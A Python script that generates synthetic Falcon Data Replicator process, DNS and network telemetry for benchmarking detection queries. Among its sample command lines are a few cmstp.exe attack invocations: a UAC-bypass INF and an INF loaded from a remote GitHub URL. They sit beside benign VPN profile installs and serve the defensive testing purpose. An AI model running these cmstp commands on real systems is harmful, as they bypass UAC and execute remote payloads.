"""Generate realistic Falcon Data Replicator (FDR) NDJSON for benchmarks.

Most events are Windows ProcessRollup2 with common command lines; DNS,
network, file and end-of-process events are mixed in; cmstp.exe runs are rare
and include both attacks and benign profile installs. Every value is a JSON
string, as in real FDR. The output is deterministic for a given seed.

    python bench/generate_fdr.py --size-mb 1024 --output /tmp/fdr-1g.ndjson
"""

from __future__ import annotations

import argparse
import hashlib
import random
import sys
from pathlib import Path

import orjson

HOSTS = 400
START_MS = 1_764_547_200_000  # 2025-12-01T00:00:00Z
SPAN_MS = 30 * 24 * 3600 * 1000  # a month of events

PROCESSES = [
    (
        r"\Windows\System32\svchost.exe",
        "services.exe",
        "C:\\Windows\\system32\\svchost.exe -k {svc} -p -s {svcname}",
    ),
    (r"\Windows\System32\cmd.exe", "explorer.exe", 'C:\\Windows\\system32\\cmd.exe /c "{script}"'),
    (
        r"\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "cmd.exe",
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\{script}.ps1",
    ),
    (
        r"\Program Files\Google\Chrome\Application\chrome.exe",
        "explorer.exe",
        '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US --field-trial-handle={n}',
    ),
    (
        r"\Windows\System32\conhost.exe",
        "cmd.exe",
        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
    ),
    (
        r"\Windows\System32\rundll32.exe",
        "svchost.exe",
        "C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\{dll}.dll,{export}",
    ),
    (r"\Windows\System32\taskhostw.exe", "svchost.exe", "taskhostw.exe {guid}"),
    (
        r"\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        "explorer.exe",
        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\{user}\\Documents\\{doc}.docx"',
    ),
    (r"\Windows\System32\msiexec.exe", "services.exe", "C:\\Windows\\system32\\msiexec.exe /V"),
    (
        r"\Windows\System32\wbem\WmiPrvSE.exe",
        "svchost.exe",
        "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
    ),
    (
        r"\Windows\System32\reg.exe",
        "cmd.exe",
        "reg.exe query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /s",
    ),
    (r"\Windows\System32\schtasks.exe", "cmd.exe", "schtasks.exe /query /fo LIST /v"),
    (
        r"\Windows\System32\regsvr32.exe",
        "explorer.exe",
        "regsvr32.exe /s C:\\Program Files\\Vendor\\{dll}.dll",
    ),
    (
        r"\Program Files\Git\usr\bin\bash.exe",
        "cmd.exe",
        "bash.exe -c 'cd /src/{script} && make -s'",
    ),
]
CMSTP = [
    (
        "powershell.exe",
        '"C:\\windows\\system32\\cmstp.exe" /s C:\\ProgramData\\T1218.003_uacbypass.inf /au',
    ),
    (
        "python.exe",
        '"C:\\Windows\\System32\\cmstp.exe" /au c:\\users\\ieuser\\appdata\\local\\temp\\tmp.ini',
    ),
    (
        "cmd.exe",
        "cmstp.exe  /ni /s https://raw.githubusercontent.com/op7ic/EDR-Testing-Script/master/Payloads/Cmstp.inf",
    ),
    ("ccmexec.exe", "cmstp.exe /s /ns /au C:\\ProgramData\\VPN\\CorpVPN.inf"),
    ("explorer.exe", "cmstp.exe C:\\Corp\\Profiles\\CorpVPN.inf"),
]
OTHER_EVENTS = [
    "DnsRequest",
    "NetworkConnectIP4",
    "EndOfProcess",
    "NewExecutableWritten",
    "ImageHash",
    "SyntheticProcessRollup2",
]
WORDS = [
    "backup",
    "update",
    "inventory",
    "report",
    "sync",
    "cleanup",
    "deploy",
    "audit",
    "collect",
    "rotate",
]
SERVICES = ["netsvcs", "LocalService", "NetworkService", "DcomLaunch", "RPCSS", "UnistackSvcGroup"]
SERVICE_NAMES = [
    "Schedule",
    "BITS",
    "wuauserv",
    "Dnscache",
    "LanmanWorkstation",
    "Winmgmt",
    "EventLog",
]
DLLS = ["shell32", "advapi32", "twinui", "edgehtml", "dsreg", "mshtml"]


class Generator:
    """Builds events from a seeded random source."""

    def __init__(self, seed: int, cmstp_rate: float) -> None:
        self.random = random.Random(seed)
        self.cmstp_rate = cmstp_rate
        self.counter = 0
        self.aids = [hashlib.md5(f"host{i}".encode()).hexdigest() for i in range(HOSTS)]
        self.cid = hashlib.md5(b"customer").hexdigest()

    def event(self) -> dict[str, str]:
        self.counter += 1
        roll = self.random.random()
        if roll < self.cmstp_rate:
            return self._process(*self._cmstp())
        if roll < 0.7:
            image, parent, template = self.random.choice(PROCESSES)
            return self._process(image, parent, self._fill(template))
        return self._other(self.random.choice(OTHER_EVENTS))

    def _cmstp(self) -> tuple[str, str, str]:
        parent, command_line = self.random.choice(CMSTP)
        return r"\Windows\System32\cmstp.exe", parent, command_line

    def _fill(self, template: str) -> str:
        r = self.random
        return template.format(
            svc=r.choice(SERVICES),
            svcname=r.choice(SERVICE_NAMES),
            script=r.choice(WORDS),
            n=r.randrange(1, 10_000),
            dll=r.choice(DLLS),
            export=f"#{r.randrange(1, 200)}",
            guid="{" + hashlib.md5(str(r.random()).encode()).hexdigest()[:8].upper() + "-0000}",
            user=f"user{r.randrange(1, 500)}",
            doc=r.choice(WORDS),
        )

    def _base(self, name: str) -> dict[str, str]:
        r = self.random
        timestamp = START_MS + r.randrange(SPAN_MS)
        return {
            "event_simpleName": name,
            "name": f"{name}V{r.randrange(4, 12)}",
            "event_platform": "Win",
            "aid": r.choice(self.aids),
            "cid": self.cid,
            "aip": f"203.0.113.{r.randrange(1, 255)}",
            "id": f"{r.getrandbits(32):08x}-1111-11eb-a9ce-{r.getrandbits(48):012x}",
            "timestamp": str(timestamp),
            "ContextTimeStamp": f"{(timestamp - r.randrange(2000)) / 1000:.3f}",
            "ConfigBuild": "1007.3.0017706.1",
            "ConfigStateHash": str(r.getrandbits(31)),
            "Entitlements": "15",
            "EffectiveTransmissionClass": "2",
        }

    def _process(self, image: str, parent: str, command_line: str) -> dict[str, str]:
        r = self.random
        event = self._base("ProcessRollup2")
        digest = hashlib.sha256(image.encode()).hexdigest()
        event.update(
            {
                "TargetProcessId": str(r.getrandbits(52)),
                "ParentProcessId": str(r.getrandbits(52)),
                "SourceProcessId": str(r.getrandbits(52)),
                "SourceThreadId": str(r.getrandbits(40)),
                "RawProcessId": str(r.randrange(4, 65_000)),
                "ProcessStartTime": f"{int(event['timestamp']) / 1000:.3f}",
                "ProcessEndTime": "",
                "ImageFileName": f"\\Device\\HarddiskVolume{r.choice((2, 3))}{image}",
                "CommandLine": command_line,
                "ParentBaseFileName": parent,
                "SHA256HashData": digest,
                "MD5HashData": digest[:32],
                "SHA1HashData": "0" * 40,
                "UserSid": f"S-1-5-21-3940915590-64593676-1414006259-{r.randrange(500, 2000)}",
                "AuthenticationId": str(r.choice((999, 996, r.randrange(100_000, 900_000)))),
                "IntegrityLevel": r.choice(("8192", "12288", "16384")),
                "TokenType": "1",
                "SessionId": str(r.randrange(0, 3)),
                "ImageSubsystem": "3",
                "ProcessCreateFlags": "1024",
                "Tags": "25, 27, 40",
            }
        )
        return event

    def _other(self, name: str) -> dict[str, str]:
        r = self.random
        event = self._base(name)
        if name == "DnsRequest":
            event.update(
                {
                    "DomainName": f"{r.choice(WORDS)}.example.com",
                    "RequestType": "1",
                    "ContextProcessId": str(r.getrandbits(52)),
                }
            )
        elif name == "NetworkConnectIP4":
            event.update(
                {
                    "RemoteAddressIP4": f"198.51.100.{r.randrange(1, 255)}",
                    "RemotePort": str(r.choice((80, 443, 445, 3389))),
                    "LocalPort": str(r.randrange(49152, 65535)),
                    "Protocol": "6",
                    "ContextProcessId": str(r.getrandbits(52)),
                }
            )
        elif name == "SyntheticProcessRollup2":
            event.update(
                {
                    "ImageFileName": r"\Device\HarddiskVolume2\Windows\explorer.exe",
                    "CommandLine": "C:\\Windows\\Explorer.EXE",
                    "SyntheticPR2Flags": "0",
                    "TargetProcessId": str(r.getrandbits(52)),
                }
            )
        else:
            event.update(
                {
                    "TargetFileName": f"\\Device\\HarddiskVolume2\\Users\\user{r.randrange(500)}\\AppData\\Local\\Temp\\{r.choice(WORDS)}.tmp",
                    "ContextProcessId": str(r.getrandbits(52)),
                }
            )
        return event


def generate(path: Path, size_bytes: int, seed: int, cmstp_rate: float) -> tuple[int, int]:
    """Write events until ``size_bytes`` is reached; return (events, cmstp events)."""
    generator = Generator(seed, cmstp_rate)
    written = events = cmstp = 0
    with path.open("wb") as out:
        while written < size_bytes:
            chunk = []
            for _ in range(10_000):
                event = generator.event()
                cmstp += event.get("ImageFileName", "").endswith("cmstp.exe")
                chunk.append(orjson.dumps(event))
            data = b"\n".join(chunk) + b"\n"
            out.write(data)
            written += len(data)
            events += len(chunk)
    return events, cmstp


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument(
        "--size-mb", type=float, default=100.0, help="approximate output size in MiB"
    )
    parser.add_argument("--output", type=Path, required=True, help="NDJSON file to write")
    parser.add_argument("--seed", type=int, default=1218003, help="random seed")
    parser.add_argument(
        "--cmstp-rate", type=float, default=0.00002, help="share of events that are cmstp.exe runs"
    )
    args = parser.parse_args(argv)
    events, cmstp = generate(
        args.output, int(args.size_mb * 1024 * 1024), args.seed, args.cmstp_rate
    )
    print(f"wrote {events} events ({cmstp} cmstp.exe runs) to {args.output}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
